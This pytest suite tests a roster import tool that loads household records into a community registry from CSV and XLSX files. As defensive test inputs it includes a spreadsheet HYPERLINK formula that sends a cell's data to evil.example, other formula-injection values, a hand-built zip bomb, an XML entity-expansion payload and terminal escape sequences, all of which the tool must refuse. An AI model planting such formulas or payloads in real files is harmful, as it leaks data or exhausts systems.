"""Roster import: good files land, re-imports change nothing, bad rows are named."""

from __future__ import annotations

import csv
import zipfile
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import pytest
from openpyxl import Workbook
from sqlalchemy import func, select, text

from bot.cli.roster import SHOWN
from models import roster_file
from models.audit import AuditEntry
from models.registry import Branch, Estate, Household, HouseholdCare, NeighbourGroup
from models.store import Store
from tests.conftest import Cli
from texts import t

EXAMPLE = Path(__file__).resolve().parent.parent / "examples" / "roster.csv"
HEADER = ["街道", "社区", "小区", "楼栋", "单元", "房号", "邻里单元", "户主", "电话", "关爱对象"]
TABLES = (
    "street",
    "community",
    "estate",
    "branch",
    "building",
    "neighbour_group",
    "household",
    "household_care",
)


def write_csv(
    path: Path, rows: list[list[str]], header: list[str] = HEADER, encoding: str = "utf-8"
) -> Path:
    with path.open("w", newline="", encoding=encoding) as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    return path


SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Target="xl/workbook.xml" Type="{REL_NS}/officeDocument"/>'
    "</Relationships>"
)
WORKBOOK_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Target="worksheets/sheet1.xml" Type="{REL_NS}/worksheet"/>'
    f'<Relationship Id="rId2" Target="sharedStrings.xml" Type="{REL_NS}/sharedStrings"/>'
    "</Relationships>"
)
CONTENT_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    "</Types>"
)
WORKBOOK = (
    f'<workbook xmlns="{SHEET_NS}" xmlns:r="{REL_NS}">'
    '<sheets><sheet name="花名册" sheetId="1" r:id="rId1"/></sheets></workbook>'
)


def write_xlsx(
    path: Path,
    rows: Iterable[bytes],
    strings: Sequence[str] = (),
    dimension: str | None = None,
    shared: Iterable[bytes] = (),
) -> Path:
    """Write an XLSX by hand, its sheet streamed into the zip: how a hostile file is made."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", PACKAGE_RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        with archive.open("xl/sharedStrings.xml", "w") as table:
            table.write(f'<sst xmlns="{SHEET_NS}">'.encode())
            table.write("".join(f"<si><t>{escape(word)}</t></si>" for word in strings).encode())
            for chunk in shared:
                table.write(chunk)
            table.write(b"</sst>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(f'<worksheet xmlns="{SHEET_NS}">'.encode())
            if dimension is not None:
                sheet.write(f'<dimension ref="{dimension}"/>'.encode())
            sheet.write(b"<sheetData>")
            for row in rows:
                sheet.write(row)
            sheet.write(b"</sheetData></worksheet>")
    return path


def xlsx_cells(*cells: str) -> bytes:
    """Inline-string cells without cell references, as some generators write them."""
    return "".join(
        f'<c t="inlineStr"><is><t>{escape(cell)}</t></is></c>' for cell in cells
    ).encode()


def xlsx_row(*cells: str) -> bytes:
    return b"<row>" + xlsx_cells(*cells) + b"</row>"


def base_rows() -> list[list[str]]:
    return [
        [
            "月塘街道",
            "芙蓉社区",
            "芙蓉花园",
            "1栋",
            "1单元",
            "101",
            "",
            "张建国",
            "13907331234",
            "独居老人",
        ],
        [
            "月塘街道",
            "芙蓉社区",
            "芙蓉花园",
            "1栋",
            "1单元",
            "102",
            "",
            "李秀英",
            "0731-22881234",
            "",
        ],
        [
            "月塘街道",
            "芙蓉社区",
            "芙蓉花园",
            "1栋",
            "2单元",
            "101",
            "",
            "王志强",
            "",
            "残疾人、低保",
        ],
        [
            "月塘街道",
            "芙蓉社区",
            "芙蓉花园",
            "2栋",
            "",
            "301",
            "二号楼一组",
            "",
            "+86 139 0733 5678",
            "",
        ],
    ]


async def dump(store: Store) -> dict[str, list[tuple[Any, ...]]]:
    """Every row of the registry tables, for comparing a database before and after."""
    async with store.read() as session:
        return {
            table: [
                tuple(row)
                for row in await session.execute(text(f"SELECT * FROM {table} ORDER BY 1"))
            ]
            for table in TABLES
        }


async def count(store: Store, model: type) -> int:
    async with store.read() as session:
        return int(await session.scalar(select(func.count()).select_from(model)) or 0)


@pytest.fixture
def migrated(cli: Cli) -> Cli:
    assert cli("db", "upgrade").exit_code == 0
    return cli


async def test_sample_roster_imports(store: Store, migrated: Cli) -> None:
    result = migrated("import-roster", str(EXAMPLE), "--new-estates")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(EXAMPLE.open(encoding="utf-8")))[1:]
    assert f"新增 {len(rows)} 户" in result.output and "新建小区 3 个" in result.output
    assert await count(store, Household) == len(rows)
    async with store.read() as session:
        branches = set(await session.scalars(select(Branch.name)))
        groups = set(await session.scalars(select(NeighbourGroup.name)))
        phones = list(
            await session.scalars(select(Household.phone).where(Household.phone.is_not(None)))
        )
    assert branches == {"芙蓉花园党支部", "桂花苑党支部", "荷塘人家党支部"}
    # Units become groups unless the roster names one.
    assert {"1单元", "2单元", "A栋一组", "A栋二组"} <= groups
    assert phones and all(p.startswith("+86") for p in phones)
    assert "+8673122881234" in phones


async def test_good_csv_lands_in_the_registry(store: Store, migrated: Cli, tmp_path: Path) -> None:
    roster = write_csv(tmp_path / "roster.csv", base_rows())
    result = migrated("import-roster", str(roster), "--new-estates")
    assert result.exit_code == 0, result.output
    async with store.read() as session:
        households = {(h.unit, h.room): h for h in await session.scalars(select(Household))}
        care = {
            (hid, kind)
            for hid, kind in await session.execute(
                select(HouseholdCare.household_id, HouseholdCare.kind)
            )
        }
        group_of = dict(
            (await session.execute(select(NeighbourGroup.id, NeighbourGroup.name))).all()
        )
    assert households[("1单元", "101")].phone == "+8613907331234"
    assert households[("", "301")].phone == "+8613907335678"
    assert group_of[households[("", "301")].neighbour_group_id] == "二号楼一组"
    assert group_of[households[("1单元", "102")].neighbour_group_id] == "1单元"
    wang = households[("2单元", "101")].id
    assert {
        (wang, "disabled"),
        (wang, "hardship"),
        (households[("1单元", "101")].id, "elderly_alone"),
    } == care
    async with store.read() as session:
        entry = await session.scalar(select(AuditEntry).where(AuditEntry.action == "roster.import"))
    assert entry is not None and entry.after is not None and entry.after["added"] == 4


async def test_xlsx_with_english_headers_and_numbers(
    store: Store, migrated: Cli, tmp_path: Path
) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(
        [
            "Street",
            "Community",
            "Estate",
            "Building",
            "Unit",
            "Room",
            "Householder",
            "Phone",
            "Care",
        ]
    )
    sheet.append(
        [
            "月塘街道",
            "芙蓉社区",
            "芙蓉花园",
            "1栋",
            "1单元",
            101,
            "张建国",
            13907331234,
            "elderly_alone",
        ]
    )
    sheet.append(["月塘街道", "芙蓉社区", "芙蓉花园", "1栋", "1单元", 102.0, None, None, None])
    sheet.append([None] * 9)  # trailing blank rows are common in spreadsheets
    book.save(tmp_path / "roster.xlsx")
    result = migrated(
        "import-roster", str(tmp_path / "roster.xlsx"), "--new-estates", language="en"
    )
    assert result.exit_code == 0, result.output
    assert "added 2" in result.output
    async with store.read() as session:
        rooms = dict((await session.execute(select(Household.room, Household.phone))).all())
    assert rooms == {"101": "+8613907331234", "102": None}


async def test_gb18030_csv(store: Store, migrated: Cli, tmp_path: Path) -> None:
    roster = write_csv(tmp_path / "excel.csv", base_rows(), encoding="gb18030")
    result = migrated("import-roster", str(roster), "--new-estates")
    assert result.exit_code == 0, result.output
    async with store.read() as session:
        names = set(await session.scalars(select(Estate.name)))
    assert names == {"芙蓉花园"}


async def test_same_file_twice_changes_nothing(store: Store, migrated: Cli, tmp_path: Path) -> None:
    roster = write_csv(tmp_path / "roster.csv", base_rows())
    assert migrated("import-roster", str(roster), "--new-estates").exit_code == 0
    before = await dump(store)
    audits = await count(store, AuditEntry)
    again = migrated("import-roster", str(roster))
    assert again.exit_code == 0, again.output
    assert "新增 0 户，修改 0 户，移除 0 户，4 户不变" in again.output
    assert await dump(store) == before
    assert await count(store, AuditEntry) == audits


async def test_changed_file_updates_in_place(store: Store, migrated: Cli, tmp_path: Path) -> None:
    assert (
        migrated(
            "import-roster", str(write_csv(tmp_path / "a.csv", base_rows())), "--new-estates"
        ).exit_code
        == 0
    )
    async with store.read() as session:
        ids = {(h.unit, h.room): h.id for h in await session.scalars(select(Household))}
    rows = base_rows()
    rows[0][8] = "13800001111"  # phone changed
    rows[0][9] = ""  # care flag dropped
    del rows[1]  # 1单元/102 moved out
    rows.append(["月塘街道", "芙蓉社区", "芙蓉花园", "1栋", "1单元", "103", "", "赵敏", "", ""])
    changed = write_csv(tmp_path / "b.csv", rows)

    before = await dump(store)
    dry = migrated("import-roster", str(changed), "--dry-run")
    assert dry.exit_code == 0, dry.output
    # Addresses as people read them (docs/wording.md), no slashes.
    assert "+ 芙蓉花园1栋1单元103室" in dry.output
    assert "~ 芙蓉花园1栋1单元101室：电话" in dry.output
    assert "- 芙蓉花园1栋1单元102室" in dry.output
    assert "13800001111" not in dry.output  # phone numbers are shown only in part
    assert "试运行" in dry.output
    assert await dump(store) == before

    real = migrated("import-roster", str(changed))
    assert real.exit_code == 0, real.output
    assert "新增 1 户，修改 1 户，移除 1 户，2 户不变" in real.output
    async with store.read() as session:
        now = {(h.unit, h.room): h for h in await session.scalars(select(Household))}
        care = list(
            await session.scalars(
                select(HouseholdCare.kind).where(
                    HouseholdCare.household_id == ids[("1单元", "101")]
                )
            )
        )
        actions = list(await session.scalars(select(AuditEntry.action).order_by(AuditEntry.id)))
    assert now[("1单元", "101")].id == ids[("1单元", "101")]
    assert now[("1单元", "101")].phone == "+8613800001111"
    assert care == []
    assert now[("1单元", "102")].removed_at is not None
    assert now[("1单元", "103")].removed_at is None
    assert actions.count("household.update") == 1 and actions.count("household.remove") == 1

    # The household that left comes back: the same row again, no longer removed.
    back = migrated("import-roster", str(write_csv(tmp_path / "c.csv", base_rows())))
    assert back.exit_code == 0, back.output
    async with store.read() as session:
        returned = await session.get_one(Household, ids[("1单元", "102")])
    assert returned.removed_at is None


BAD_CASES = [
    pytest.param(
        ["街道", "社区", "小区", "楼栋", "单元", "户主"],
        [["月塘街道", "芙蓉社区", "芙蓉花园", "1栋", "1单元", "张三"]],
        1,
        "缺少必填列「房号/room」",
        id="missing-column",
    ),
    pytest.param(
        [*HEADER, "备注"],
        [["月塘街道", "芙蓉社区", "芙蓉花园", "1栋", "1单元", "101", "", "", "", "", "x"]],
        1,
        "不认识的列名「备注」",
        id="unknown-column",
    ),
    pytest.param(
        HEADER,
        [
            ["月塘街道", "芙蓉社区", "芙蓉花园", "1栋", "1单元", "101", "", "", "", ""],
            ["月塘街道", "芙蓉社区", "芙蓉花园", "1栋", "1单元", "", "", "", "", ""],
        ],
        3,
        "「房号/room」不能为空",
        id="missing-value",
    ),
    pytest.param(
        HEADER,
        [
            ["月塘街道", "芙蓉社区", "芙蓉花园", "1栋", "1单元", "101", "", "", "", ""],
            ["月塘街道", "芙蓉社区", "芙蓉花园", "1栋", "1单元", "102", "", "", "", ""],
            ["月塘街道", "芙蓉社区", "芙蓉花园", "1栋", "1单元", "１０１", "", "", "", ""],
        ],
        4,
        "芙蓉花园1栋1单元101室重复，第 2 行已有这一户",
        id="duplicate-room",
    ),
    pytest.param(
        HEADER,
        [
            ["月塘街道", "芙蓉社区", "芙蓉花园", "1栋", "1单元", "101", "", "", "", ""],
            ["月塘街道", "芙蓉社区", "芙容花园", "1栋", "1单元", "101", "", "", "", ""],
        ],
        3,
        "小区「月塘街道/芙蓉社区/芙容花园」尚未登记",
        id="unknown-estate",
    ),
    pytest.param(
        HEADER,
        [
            ["月塘街道", "芙蓉社区", "芙蓉花园", "1栋", "1单元", "101", "", "", "", ""],
            ["月塘街道", "芙蓉社区", "芙蓉花园", "1栋", "1单元", "102", "", "", "1390733", ""],
        ],
        3,
        "电话「1390733」不是有效的手机或固话号码",
        id="malformed-phone",
    ),
    pytest.param(
        HEADER,
        [
            [
                "月塘街道",
                "芙蓉社区",
                "芙蓉花园",
                "1栋",
                "1单元",
                "101",
                "",
                "",
                "",
                "独居老人、外星人",
            ]
        ],
        2,
        "关爱对象「外星人」无法识别",
        id="unknown-care",
    ),
    pytest.param(
        HEADER,
        [["月塘街道", "芙蓉社区", "芙蓉花园", "1栋", "1单元", "1" * 40, "", "", "", ""]],
        2,
        "「房号/room」太长",
        id="too-long",
    ),
    pytest.param(
        HEADER,
        [
            [
                "月塘街道",
                "芙蓉社区",
                "芙蓉花园",
                "1栋",
                "1单元",
                "101",
                "",
                '=HYPERLINK("http://evil.example/?"&H2,"点我")',
                "",
                "",
            ]
        ],
        2,
        "「户主/householder」以 =、+、-、@ 或制表符开头",
        id="formula-hyperlink",
    ),
    pytest.param(
        HEADER,
        [["月塘街道", "芙蓉社区", "芙蓉花园", "1栋", "1单元", "101", "@SUM(A1)", "", "", ""]],
        2,
        "「邻里单元/neighbour_group」以 =、+、-、@ 或制表符开头",
        id="formula-at",
    ),
    pytest.param(
        HEADER,
        [["月塘街道", "芙蓉社区", "芙蓉花园", "1栋", "1单元", "-2+3", "", "", "", ""]],
        2,
        "「房号/room」以 =、+、-、@ 或制表符开头",
        id="formula-minus",
    ),
    pytest.param(
        HEADER,
        [["月塘街道", "芙蓉社区", "芙蓉花园", "1栋", "1单元", "101", "", "\t=1+1", "", ""]],
        2,
        "「户主/householder」以 =、+、-、@ 或制表符开头",
        id="formula-after-tab",
    ),
    pytest.param(
        HEADER,
        [["月塘街道", "芙蓉社区", "芙蓉花园", "1栋", "1单元", "101", "", "＝1+1", "", ""]],
        2,
        "「户主/householder」以 =、+、-、@ 或制表符开头",
        id="formula-full-width",
    ),
    pytest.param(
        HEADER,
        [["月塘街道", "芙蓉社区", "芙蓉花园", "1栋", "1单元", "101", "", "", "=13907331234", ""]],
        2,
        "「电话/phone」以 =、+、-、@ 或制表符开头",
        id="formula-in-phone",
    ),
    pytest.param(
        HEADER,
        [["月塘街道", "芙蓉社区", "芙蓉花园", "1栋", "1单元", "101", "", "张\x00三", "", ""]],
        2,
        "「户主/householder」含有控制字符",
        id="nul",
    ),
    pytest.param(
        HEADER,
        [["月塘街道", "芙蓉社区", "芙蓉花园", "1栋", "1单元", "101", "", "张\t三", "", ""]],
        2,
        "「户主/householder」含有控制字符",
        id="tab-inside",
    ),
    pytest.param(
        HEADER,
        [["月塘街道", "芙蓉社区", "芙蓉花园\x1b[2J", "1栋", "1单元", "101", "", "", "", ""]],
        2,
        "「小区/estate」含有控制字符",
        id="terminal-escape",
    ),
]


@pytest.mark.parametrize(("header", "rows", "line", "reason"), BAD_CASES)
async def test_bad_row_is_named_and_nothing_written(
    store: Store,
    migrated: Cli,
    tmp_path: Path,
    header: list[str],
    rows: list[list[str]],
    line: int,
    reason: str,
) -> None:
    # The estate exists, so only the bad row itself is wrong.
    good = write_csv(tmp_path / "good.csv", [base_rows()[0]])
    assert migrated("import-roster", str(good), "--new-estates").exit_code == 0
    before = await dump(store)
    audits = await count(store, AuditEntry)

    bad = write_csv(tmp_path / "bad.csv", rows, header=header)
    result = migrated("import-roster", str(bad))
    assert result.exit_code == 2, result.output
    assert f"第 {line} 行：{reason}" in result.output
    assert "未写入任何数据" in result.output
    assert "Traceback" not in result.output
    assert await dump(store) == before
    assert await count(store, AuditEntry) == audits


async def test_every_bad_row_is_reported_at_once(
    store: Store, migrated: Cli, tmp_path: Path
) -> None:
    rows = base_rows()
    rows[1][8] = "12345"
    rows[3][9] = "神仙"
    result = migrated("import-roster", str(write_csv(tmp_path / "r.csv", rows)), "--new-estates")
    assert result.exit_code == 2
    assert "第 3 行" in result.output and "第 5 行" in result.output
    assert await count(store, Household) == 0


async def test_multiline_cell_keeps_line_numbers(
    store: Store, migrated: Cli, tmp_path: Path
) -> None:
    rows = base_rows()
    rows[0][7] = "张\n建国"  # a quoted cell spanning two lines, refused for its line break
    rows[2][8] = "000"
    result = migrated("import-roster", str(write_csv(tmp_path / "r.csv", rows)), "--new-estates")
    assert result.exit_code == 2
    # Header line 1, row one on lines 2–3, row two on 4, the bad row three on 5.
    assert "第 2 行：「户主/householder」含有控制字符" in result.output
    assert "第 5 行：电话「000」" in result.output


def test_unsupported_or_missing_file(migrated: Cli, tmp_path: Path) -> None:
    (tmp_path / "roster.pdf").write_bytes(b"%PDF-1.4")
    for path, words in (
        (tmp_path / "roster.pdf", "不支持的文件类型"),
        (tmp_path / "none.csv", "找不到文件"),
    ):
        result = migrated("import-roster", str(path))
        assert result.exit_code == 2
        assert words in result.output and result.output.count("\n") == 1
    (tmp_path / "broken.xlsx").write_bytes(b"not a zip")
    result = migrated("import-roster", str(tmp_path / "broken.xlsx"))
    assert result.exit_code == 2 and "不是有效的 XLSX" in result.output


def good_row(room: str) -> list[str]:
    return ["月塘街道", "芙蓉社区", "芙蓉花园", "1栋", "1单元", room, "", "", "", ""]


def roomless(count: int) -> Iterable[bytes]:
    """Rows that each lack a room, the shape of the file that once printed 7,500,000 errors."""
    row = xlsx_row("月塘街道", "芙蓉社区", "芙蓉花园", "1栋", "1单元", "", "张建国")
    return (row for _ in range(count))


def error_lines(output: str) -> list[str]:
    return [line for line in output.splitlines() if line.startswith("第 ")]


def test_limits_are_the_documented_ones() -> None:
    # README's roster section states these; a change there must come with a change here.
    assert roster_file.MAX_FILE_BYTES == 50 * 1024 * 1024
    assert roster_file.MAX_ROWS == 200_000
    assert roster_file.MAX_CELL_CHARS == 1_000
    assert roster_file.MAX_UNPACKED_BYTES == 256 * 1024 * 1024
    assert roster_file.MAX_STRINGS_BYTES == 64 * 1024 * 1024
    assert roster_file.MAX_PART_BYTES == 16 * 1024 * 1024
    # Every error shown is kept; the ones past what is shown are only counted.
    assert roster_file.MAX_ERRORS >= SHOWN
    assert "超过 50 MB" in t("roster.too_big", "zh_CN", file="r.csv", limit=50)
    assert "超过 200000 行" in t("roster.too_many_rows", "zh_CN", limit=200_000)


async def test_csv_with_a_huge_cell_names_its_line(
    store: Store, migrated: Cli, tmp_path: Path
) -> None:
    rows = [good_row("101"), good_row("102"), good_row("103"), good_row("104")]
    rows[1][7] = "张" * 2_000  # past our limit, within the csv module's
    rows[2][7] = "x" * 50_000_000  # the 50 MB cell that once ended in a traceback
    result = migrated("import-roster", str(write_csv(tmp_path / "r.csv", rows)), "--new-estates")
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output and "Error" not in result.output
    assert error_lines(result.output) == [
        "第 3 行：这一行有格子超过 1000 个字，不像是花名册的内容。",
        "第 4 行：这一行有格子超过 1000 个字，不像是花名册的内容。",
    ]
    assert "未写入任何数据" in result.output
    assert await count(store, Household) == 0


async def test_file_past_the_size_limit_is_refused_in_one_line(
    store: Store, migrated: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(roster_file, "MAX_FILE_BYTES", 1024 * 1024)
    rows = [good_row(str(room)) for room in range(1, 25_000)]
    big = write_csv(tmp_path / "big.csv", rows)
    assert big.stat().st_size > 1024 * 1024
    result = migrated("import-roster", str(big), "--new-estates")
    assert result.exit_code == 2
    assert result.output.count("\n") == 1
    assert "文件「big.csv」超过 1 MB" in result.output
    assert await count(store, Household) == 0


async def test_many_bad_rows_show_the_first_and_count_the_rest(
    store: Store, migrated: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Fewer kept than found: the count still covers them all.
    monkeypatch.setattr(roster_file, "MAX_ERRORS", SHOWN + 10)
    rows = [good_row("") for _ in range(500)]
    result = migrated("import-roster", str(write_csv(tmp_path / "r.csv", rows)), "--new-estates")
    assert result.exit_code == 2
    shown = error_lines(result.output)
    assert len(shown) == SHOWN and shown[0].startswith("第 2 行：") and "第 51 行" in shown[-1]
    assert f"……另有 {500 - SHOWN} 条未显示" in result.output
    assert "共 500 处错误" in result.output
    assert len(result.output.splitlines()) == SHOWN + 2


async def test_hostile_xlsx_stops_at_the_row_limit(
    store: Store, migrated: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The real limit is 200,000 rows; a smaller one shows the same without a big file.
    monkeypatch.setattr(roster_file, "MAX_ROWS", 1_000)
    header = xlsx_row("街道", "社区", "小区", "楼栋", "单元", "房号", "户主")
    hostile = write_xlsx(tmp_path / "hostile.xlsx", [header, *roomless(5_000)])
    result = migrated("import-roster", str(hostile), "--new-estates")
    assert result.exit_code == 2
    assert result.output.count("\n") == 1
    assert "花名册超过 1000 行（空行也算）" in result.output
    assert await count(store, Household) == 0

    # Under the limit every bad row is still counted, and only the first are printed.
    monkeypatch.setattr(roster_file, "MAX_ROWS", 5_000)
    result = migrated("import-roster", str(hostile), "--new-estates")
    assert result.exit_code == 2
    assert len(error_lines(result.output)) == SHOWN
    assert "共 5000 处错误" in result.output


async def test_xlsx_declaring_too_many_rows_is_refused_before_reading(
    store: Store, migrated: Cli, tmp_path: Path
) -> None:
    rows = [xlsx_row(*HEADER), xlsx_row(*good_row("101"))]
    claims = write_xlsx(tmp_path / "claims.xlsx", rows, dimension="A1:J7500001")
    result = migrated("import-roster", str(claims), "--new-estates")
    assert result.exit_code == 2
    assert "花名册超过 200000 行" in result.output and result.output.count("\n") == 1
    assert await count(store, Household) == 0


async def test_xlsx_whose_dimension_is_too_small_imports_every_row(
    store: Store, migrated: Cli, tmp_path: Path
) -> None:
    # A declared size is only a claim: openpyxl's read-only mode stopped reading at it.
    rows = [xlsx_row(*HEADER), *(xlsx_row(*good_row(room)) for room in ("101", "102", "103"))]
    lying = write_xlsx(tmp_path / "lying.xlsx", rows, dimension="A1:C2")
    result = migrated("import-roster", str(lying), "--new-estates")
    assert result.exit_code == 0, result.output
    assert "新增 3 户" in result.output
    assert await count(store, Household) == 3


async def test_xlsx_unpacking_past_the_limits_is_refused(
    store: Store, migrated: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(roster_file, "MAX_UNPACKED_BYTES", 1024 * 1024)
    header = xlsx_row("街道", "社区", "小区", "楼栋", "单元", "房号", "户主")
    bomb = write_xlsx(tmp_path / "bomb.xlsx", [header, *roomless(10_000)])
    assert bomb.stat().st_size < 100 * 1024  # small on disk, over a megabyte unpacked
    result = migrated("import-roster", str(bomb), "--new-estates")
    assert result.exit_code == 2
    assert "文件「bomb.xlsx」解压后超过 1 MB" in result.output
    assert result.output.count("\n") == 1

    # The shared-strings table is read whole, so it has a limit of its own.
    monkeypatch.setattr(roster_file, "MAX_UNPACKED_BYTES", 256 * 1024 * 1024)
    monkeypatch.setattr(roster_file, "MAX_STRINGS_BYTES", 1024 * 1024)
    words = (b"<si><t>%d</t></si>" % n for n in range(200_000))
    table = write_xlsx(tmp_path / "table.xlsx", [header], shared=words)
    result = migrated("import-roster", str(table), "--new-estates")
    assert result.exit_code == 2
    assert "xl/sharedStrings.xml 解压后超过 1 MB" in result.output
    assert await count(store, Household) == 0


async def test_formula_text_in_xlsx_is_refused(store: Store, migrated: Cli, tmp_path: Path) -> None:
    strings = ["+SUM(1,2)"]
    rows = [
        xlsx_row(*HEADER),
        xlsx_row(*good_row("101")[:7], '=HYPERLINK("http://evil.example","点我")'),
        # The unit from the shared strings, the room a number.
        b"<row>"
        + xlsx_cells("月塘街道", "芙蓉社区", "芙蓉花园", "1栋")
        + b'<c t="s"><v>0</v></c><c><v>102</v></c></row>',
        xlsx_row(*good_row("103")[:8], "+86 139 0733 1234"),
    ]
    book = write_xlsx(tmp_path / "f.xlsx", rows, strings)
    result = migrated("import-roster", str(book), "--new-estates")
    assert result.exit_code == 2
    formula = "以 =、+、-、@ 或制表符开头，导出到电子表格时会被当作公式执行；请去掉开头的符号。"
    assert error_lines(result.output) == [
        f"第 2 行：「户主/householder」{formula}",
        f"第 3 行：「单元/unit」{formula}",
    ]  # the phone on line 4 starts with + and is a phone number: no error
    assert await count(store, Household) == 0


async def test_xlsx_as_excel_writes_it_lands(store: Store, migrated: Cli, tmp_path: Path) -> None:
    # Shared strings, one in rich-text runs with a phonetic hint (not part of the text), cell
    # references that skip a row (2) and a column (E, the unit), a number for the room.
    words = [
        "街道",
        "社区",
        "小区",
        "楼栋",
        "单元",
        "房号",
        "户主",
        "月塘街道",
        "芙蓉社区",
        "芙蓉花园",
        "1栋",
    ]
    rich = (
        "<si><r><rPr><b/></rPr><t>张</t></r><r><t>建国</t></r>"
        '<rPh sb="0" eb="1"><t>zh</t></rPh></si>'
    ).encode()
    header = "".join(f'<c r="{"ABCDEFG"[i]}1" t="s"><v>{i}</v></c>' for i in range(7))
    data = (
        '<c r="A3" t="s"><v>7</v></c><c r="B3" t="s"><v>8</v></c><c r="C3" t="s"><v>9</v></c>'
        '<c r="D3" t="s"><v>10</v></c><c r="F3"><v>101</v></c><c r="G3" t="s"><v>11</v></c>'
    )
    rows = [f'<row r="1">{header}</row>'.encode(), f'<row r="3">{data}</row>'.encode()]
    book = write_xlsx(tmp_path / "excel.xlsx", rows, words, dimension="A1:G3", shared=[rich])
    result = migrated("import-roster", str(book), "--new-estates")
    assert result.exit_code == 0, result.output
    async with store.read() as session:
        households = list(
            await session.execute(select(Household.unit, Household.room, Household.householder))
        )
    assert [tuple(h) for h in households] == [("", "101", "张建国")]


@pytest.mark.parametrize(
    "sheet",
    [
        pytest.param(b"<row><c><v>1</v></c></row><row><c", id="cut-off-xml"),
        pytest.param(b'<row r="2"/><row r="1"/>', id="rows-out-of-order"),
        pytest.param(b'<row><c r="ZZZZ1"><v>1</v></c></row>', id="past-the-last-column"),
        pytest.param(b'<row><c t="s"><v>99</v></c></row>', id="no-such-shared-string"),
    ],
)
async def test_broken_xlsx_is_one_line(
    store: Store, migrated: Cli, tmp_path: Path, sheet: bytes
) -> None:
    book = write_xlsx(tmp_path / "broken.xlsx", [xlsx_row(*HEADER), sheet])
    result = migrated("import-roster", str(book), "--new-estates")
    assert result.exit_code == 2
    assert "不是有效的 XLSX" in result.output and result.output.count("\n") == 1
    assert await count(store, Household) == 0


async def test_xlsx_with_entity_expansion_is_refused(
    store: Store, migrated: Cli, tmp_path: Path
) -> None:
    book = write_xlsx(tmp_path / "laughs.xlsx", [xlsx_row(*HEADER)])
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a "hahahahaha">'
        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b"<si><t>&c;</t></si></sst>"
    )
    rebuilt = tmp_path / "rebuilt.xlsx"
    with zipfile.ZipFile(book) as source, zipfile.ZipFile(rebuilt, "w") as target:
        for info in source.infolist():
            content = laughs if info.filename == "xl/sharedStrings.xml" else source.read(info)
            target.writestr(info.filename, content)
    result = migrated("import-roster", str(rebuilt), "--new-estates")
    assert result.exit_code == 2
    assert "不是有效的 XLSX" in result.output and result.output.count("\n") == 1
